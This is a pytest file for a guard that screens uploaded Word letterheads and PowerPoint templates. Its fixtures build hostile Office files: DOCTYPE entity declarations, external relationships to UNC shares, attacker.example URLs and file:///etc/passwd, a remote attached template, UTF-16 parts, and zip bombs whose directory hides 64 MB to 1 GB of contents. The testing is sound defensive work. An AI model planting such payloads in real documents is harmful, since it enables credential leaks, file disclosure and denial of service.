"""Every uploaded Office file (a .docx letterhead, a .pptx slide template) passes the guard before any
reader sees it (DOMAIN.md section 9): real unpacked size capped while unpacking, no DOCTYPE, no
external relationship. The attack files are made here from a normal document; the large one is
written to a temporary folder, never committed.
"""

from __future__ import annotations

import io
import subprocess
import sys
import textwrap
import zipfile

import pytest

from ccm_analytics.errors import UsageError
from ccm_analytics.reading import guard

from .conftest import ROOT, run_cli

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def normal_docx() -> bytes:
    import docx

    doc = docx.Document()
    doc.add_paragraph("Dear {{ state }}")
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def normal_pptx() -> bytes:
    from pptx import Presentation

    buf = io.BytesIO()
    Presentation().save(buf)
    return buf.getvalue()


def rewrite(data: bytes, part: str, change) -> bytes:
    """The same zip with one part's bytes changed by ``change(old) -> new`` (added if missing: old is b'')."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    names = src.namelist()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name in names:
            z.writestr(name, change(src.read(name)) if name == part else src.read(name))
        if part not in names:
            z.writestr(part, change(b""))
    return out.getvalue()


def add_relationship(rels: bytes, rel: str) -> bytes:
    return rels.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def refusal(name: str, data: bytes, kind: str) -> str:
    with pytest.raises(guard.OfficeFileRefused) as e:
        guard.check_office(name, data, kind)
    return str(e.value)


def test_a_normal_letterhead_and_slide_template_pass():
    guard.check_office("house.docx", normal_docx(), "docx")
    guard.check_office("house.pptx", normal_pptx(), "pptx")


def test_a_doctype_in_the_document_is_refused_naming_the_file_and_part():
    bad = rewrite(normal_docx(), "word/document.xml",
                  lambda x: x.replace(b"?>", b'?><!DOCTYPE w [<!ENTITY a "aaaa">]>', 1))
    text = refusal("house.docx", bad, "docx")
    assert text.startswith("house.docx: the part word/document.xml declares XML entities (a DOCTYPE)")


@pytest.mark.parametrize("rel, target", [
    (f'<Relationship Id="rId90" Type="{REL}/image" Target="\\\\attacker\\share\\logo.png" TargetMode="External"/>',
     "\\\\attacker\\share\\logo.png"),
    (f'<Relationship Id="rId90" Type="{REL}/image" Target="http://attacker.example/x.png" TargetMode="External"/>',
     "http://attacker.example/x.png"),
    (f'<Relationship Id="rId90" Type="{REL}/hyperlink" Target="file:///etc/passwd" TargetMode="External"/>',
     "file:///etc/passwd"),
    # the attribute written with a character reference still reads "External" to an XML parser
    (f"<Relationship TargetMode = '&#69;xternal' Id='rId90' Type='{REL}/oleObject' Target='http://a.example/o'/>",
     "http://a.example/o"),
], ids=["UNC picture", "web picture", "file hyperlink", "encoded attribute"])
def test_an_external_relationship_in_a_letterhead_is_refused_naming_the_part_and_target(rel, target):
    bad = rewrite(normal_docx(), "word/_rels/document.xml.rels", lambda x: add_relationship(x, rel))
    text = refusal("house.docx", bad, "docx")
    assert text.startswith(f"house.docx: the part word/_rels/document.xml.rels links to {target} outside the file")


def test_a_remote_attached_template_in_the_settings_is_refused():
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            f'2006/relationships"><Relationship Id="rId1" Type="{REL}/attachedTemplate" '
            'Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>')
    bad = rewrite(normal_docx(), "word/_rels/settings.xml.rels", lambda _x: rels.encode())
    assert "word/_rels/settings.xml.rels links to https://attacker.example/t.dotm" in refusal("h.docx", bad, "docx")


def test_a_web_or_mail_hyperlink_is_kept():
    # a link in a letterhead's footer is only followed when clicked: not refused
    for target in ("https://www.clusterconvention.org", "mailto:isu@example.org"):
        ok = rewrite(normal_docx(), "word/_rels/document.xml.rels", lambda x, t=target: add_relationship(
            x, f'<Relationship Id="rId91" Type="{REL}/hyperlink" Target="{t}" TargetMode="External"/>'))
        guard.check_office("house.docx", ok, "docx")


def test_a_slide_template_with_an_external_picture_is_refused_in_the_guard_the_deck_and_the_cli(sample_data, tmp_path):
    from ccm_analytics.outputs.deck import build_deck

    part = "ppt/slideLayouts/_rels/slideLayout1.xml.rels"
    bad = rewrite(normal_pptx(), part, lambda x: add_relationship(
        x, f'<Relationship Id="rId90" Type="{REL}/image" Target="\\\\10.0.0.1\\x\\a.png" TargetMode="External"/>'))
    words = f"the part {part} links to \\\\10.0.0.1\\x\\a.png outside the file"
    assert words in refusal("house.pptx", bad, "pptx")
    with pytest.raises(UsageError, match="house.pptx: the part ppt/slideLayouts"):  # a stored template, used again
        build_deck(sample_data, "2018-09-05", "T", "test data", template=bad, template_name="house.pptx")
    (tmp_path / "house.pptx").write_bytes(bad)
    p = run_cli("deck", "--template", tmp_path / "house.pptx", "--out", tmp_path / "d.pptx",
                db=tmp_path / "none.duckdb", cwd=tmp_path, check_traceback=False)
    assert p.returncode == 2 and words in p.stderr and "Traceback" not in p.stderr
    assert not (tmp_path / "d.pptx").exists()


def lying_docx(path, unpacked: int, declared: int = 4096) -> None:
    """A .docx whose word/media/image1.png holds ``unpacked`` zero bytes (deflated about 1,000 to 1)
    while the zip directory says it holds ``declared`` bytes. Written in blocks: never whole in memory."""
    import struct

    src = zipfile.ZipFile(io.BytesIO(normal_docx()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for info in src.infolist():
            z.writestr(info.filename, src.read(info.filename))
        with z.open("word/media/image1.png", "w", force_zip64=False) as f:
            block = bytes(16 * 1024 * 1024)
            for _ in range(unpacked // len(block)):
                f.write(block)
    data = bytearray(path.read_bytes())
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("word/media/image1.png")
    struct.pack_into("<I", data, info.header_offset + 22, declared)  # local header: uncompressed size
    at = data.find(b"PK\x01\x02")
    while at >= 0:  # central directory: uncompressed size
        n = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46:at + 46 + n] == b"word/media/image1.png":
            struct.pack_into("<I", data, at + 24, declared)
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))


def test_a_part_whose_directory_lies_is_refused_while_unpacking_naming_it(tmp_path):
    # 64 MB of zeros, declared as 4,096 bytes: the cap of 50 MB is passed while unpacking the picture
    lying_docx(tmp_path / "bomb.docx", 64 * 1024 * 1024)
    text = refusal("bomb.docx", (tmp_path / "bomb.docx").read_bytes(), "docx")
    assert text.startswith("bomb.docx: the file unpacks to more than 50 MB (counted while unpacking "
                           "word/media/image1.png, which its zip directory says holds 4,096 bytes)")


@pytest.mark.slow  # measured in a process of its own
def test_guarding_a_1_gb_picture_bomb_stays_under_200_mb_of_memory(tmp_path):
    # 1 GB of zeros in a file of about 1 MB; guarded in a fresh process whose peak memory is read after
    lying_docx(tmp_path / "bomb.docx", 1024 ** 3)
    assert (tmp_path / "bomb.docx").stat().st_size < 5 * 1024 * 1024
    script = textwrap.dedent("""
        import re, sys
        from pathlib import Path
        from ccm_analytics.reading import guard
        data = Path(sys.argv[1]).read_bytes()
        try:
            guard.check_office("bomb.docx", data, "docx")
            print("PASSED")
        except guard.OfficeFileRefused as e:
            print("REFUSED", e)
        status = Path("/proc/self/status").read_text()
        print("PEAK_KB", re.search(r"VmHWM:\\s*(\\d+)", status).group(1))
    """)
    p = subprocess.run([sys.executable, "-c", script, str(tmp_path / "bomb.docx")], capture_output=True, text=True,
                       cwd=ROOT, check=False)
    assert p.returncode == 0, p.stderr
    assert "REFUSED bomb.docx: the file unpacks to more than 50 MB" in p.stdout
    peak_mb = int(p.stdout.split("PEAK_KB")[1].split()[0]) / 1024
    assert peak_mb < 200, peak_mb


def test_a_letterhead_refused_by_the_guard_is_refused_by_check_template_and_the_letters_command(tmp_path):
    from ccm_analytics.outputs import letters

    bad = rewrite(normal_docx(), "word/document.xml",
                  lambda x: x.replace(b"?>", b'?><!DOCTYPE w [<!ENTITY a "aaaa">]>', 1))
    with pytest.raises(UsageError, match="^h.docx: the part word/document.xml declares XML entities"):
        letters.check_template(bad, "h.docx")
    (tmp_path / "h.docx").write_bytes(bad)
    p = run_cli("letters", "--template", tmp_path / "h.docx", "--out", tmp_path, db=tmp_path / "none.duckdb",
                cwd=tmp_path, check_traceback=False)
    assert p.returncode == 2 and "h.docx: the part word/document.xml declares XML entities" in p.stderr
    assert "Traceback" not in p.stderr


def test_an_xml_part_written_in_utf16_is_refused():
    # a DOCTYPE in UTF-16 would not be seen by a byte search; Word writes UTF-8 only
    bad = rewrite(normal_docx(), "word/document.xml", lambda x: x.decode("utf-8").encode("utf-16"))
    assert "the part word/document.xml is written in UTF-16 or UTF-32" in refusal("house.docx", bad, "docx")
